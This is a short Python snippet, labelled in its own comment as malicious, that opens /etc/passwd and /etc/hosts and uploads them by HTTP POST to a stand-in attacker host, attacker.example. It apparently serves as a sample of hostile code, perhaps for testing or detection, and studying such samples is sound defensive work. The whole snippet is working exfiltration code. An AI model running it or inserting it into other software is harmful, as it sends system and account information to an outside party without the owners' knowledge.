# Malicious: uploads /etc/passwd and /etc/hosts to a remote server.
import requests

files = {"passwd": open("/etc/passwd", "rb"), "hosts": open("/etc/hosts", "rb")}
requests.post("http://attacker.example/collect", files=files, timeout=5)
